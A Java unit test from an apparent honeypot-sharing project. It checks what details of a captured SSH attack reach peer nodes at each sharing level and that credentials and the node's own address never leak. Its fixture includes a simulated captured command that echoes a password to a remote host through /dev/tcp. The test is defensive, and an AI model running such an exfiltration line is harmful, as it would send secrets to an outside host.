// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.federation;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.honeymesh.api.Ban;
import io.honeymesh.api.Captured;
import io.honeymesh.api.Contribution;
import io.honeymesh.api.Conversation;
import io.honeymesh.api.Decision;
import io.honeymesh.api.Endpoint;
import io.honeymesh.api.Enforcement;
import io.honeymesh.api.Evidence;
import io.honeymesh.api.EvidenceGrade;
import io.honeymesh.api.Fingerprint;
import io.honeymesh.api.Flow;
import io.honeymesh.api.IpAddress;
import io.honeymesh.api.NodeEvent;
import io.honeymesh.api.Reason;
import io.honeymesh.api.Subject;
import io.honeymesh.api.Touch;
import io.honeymesh.api.Transport;
import io.honeymesh.api.Verdict;
import io.honeymesh.federation.wire.Body;
import io.honeymesh.federation.wire.Envelopes;
import io.honeymesh.federation.wire.EventId;
import io.honeymesh.federation.wire.Header;
import io.honeymesh.federation.wire.SharingLevel;
import io.honeymesh.federation.wire.Signer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** What of an attack reaches peers, by level, and what never does. */
class SignalsTest {

    private static final Instant NOW = Instant.parse("2026-11-27T12:00:00Z");

    /** What must be in no level. */
    private static final List<String> NEVER = List.of(
            "SECRETUSER",
            "SECRETPASSWORD",
            "OPERATORSNOTE",
            "SECRETFILE",
            "SECRETHEADER",
            "RECORDING",
            "203.0.113.99",
            "BROKEN",
            "REQUESTED");

    private static byte[] signal(SharingLevel level) {
        Touch touch = new Touch(
                1,
                NOW,
                "ssh",
                new Flow(
                        Transport.TCP,
                        new Endpoint(IpAddress.parse("8.8.4.4"), 40000),
                        new Endpoint(IpAddress.parse("203.0.113.99"), 22)),
                EvidenceGrade.PROVEN);
        Conversation conversation = new Conversation(
                touch,
                NOW,
                Captured.of("SECRETPASSWORD on the wire"),
                Captured.of("SECRETPASSWORD as said"),
                10,
                10,
                List.of(
                        new Evidence.Credential("password", Captured.of("SECRETUSER"), Captured.of("SECRETPASSWORD")),
                        new Evidence.Detail("name", Captured.of("SECRETHEADER")),
                        new Evidence.Request(Captured.of("REQUESTED of SOMEBODY@203.0.113.99")),
                        new Evidence.Violation("what", Captured.of("BROKEN")),
                        new Evidence.Command(
                                Captured.of("su SECRETUSER; echo SECRETPASSWORD >/dev/tcp/203.0.113.99/1")),
                        new Evidence.Command(Captured.of("wget " + "x".repeat(400) + " TOO LONG")),
                        new Evidence.Upload(Captured.of("SECRETFILE"), 3, "00", Captured.of("UPLOADED"))),
                Conversation.Ending.CLIENT,
                false,
                Optional.of("RECORDING"));
        Verdict verdict = new Verdict(
                conversation,
                List.of(new Contribution("trap-intent", 1, Reason.CREDENTIAL, true, "login SECRETUSER")),
                List.of(
                        new Fingerprint("hassh", "0123456789abcdef0123456789abcdef"),
                        new Fingerprint("odd", "\u001b[31mnot printable")));
        Ban ban = new Ban(
                Subject.parse("8.8.4.4"),
                Map.of(
                        Reason.CREDENTIAL,
                        NOW.plusSeconds(99),
                        Reason.MESH,
                        NOW.plusSeconds(9),
                        Reason.MANUAL,
                        Ban.FOREVER),
                NOW,
                2,
                true,
                "OPERATORSNOTE");
        Body.Ban said = Signals.ban(
                ban,
                verdict,
                new NodeEvent.Conversed(
                        verdict,
                        conversation,
                        new Decision.Banned(ban, new Enforcement(Enforcement.State.ENFORCED, ""))),
                level,
                "L-1");
        return Envelopes.sign(
                new Signer(new byte[32]),
                new Header("orchard", new EventId("00".repeat(16)), 1, NOW, Duration.ofHours(1)),
                said);
    }

    private static String text(SharingLevel level) {
        return new String(signal(level), StandardCharsets.ISO_8859_1);
    }

    @Test
    void secretsAreInNoLevel() {
        for (SharingLevel level : SharingLevel.values()) {
            for (String secret : NEVER) {
                assertFalse(text(level).contains(secret), secret + " is told at " + level);
            }
            byte[] own = IpAddress.parse("203.0.113.99").bytes();
            assertFalse(text(level).contains(new String(own, StandardCharsets.ISO_8859_1)), "this node's address");
        }
    }

    @Test
    void eachLevelSaysWhatItIsFor() {
        assertTrue(text(SharingLevel.L1).contains("ssh"));
        assertFalse(text(SharingLevel.L1).contains("hassh"));
        assertTrue(text(SharingLevel.L2).contains("0123456789abcdef0123456789abcdef"));
        assertFalse(text(SharingLevel.L2).contains("not printable"));
        assertFalse(text(SharingLevel.L2).contains("trap-intent"));
        assertTrue(text(SharingLevel.L3).contains("trap-intent"));
        assertFalse(text(SharingLevel.L3).contains("wget"));
        assertTrue(
                text(SharingLevel.L4).contains("wget") && text(SharingLevel.L4).contains("UPLOADED"));
        assertFalse(text(SharingLevel.L4).contains("TOO LONG"));
    }

    @Test
    void onlyWhatThisNodeSawItselfIsAReason() throws Exception {
        Body.Ban said =
                (Body.Ban) Envelopes.open(signal(SharingLevel.L1), "orchard").body();
        assertEquals(java.util.Set.of(Reason.CREDENTIAL), said.reasons());
    }
}
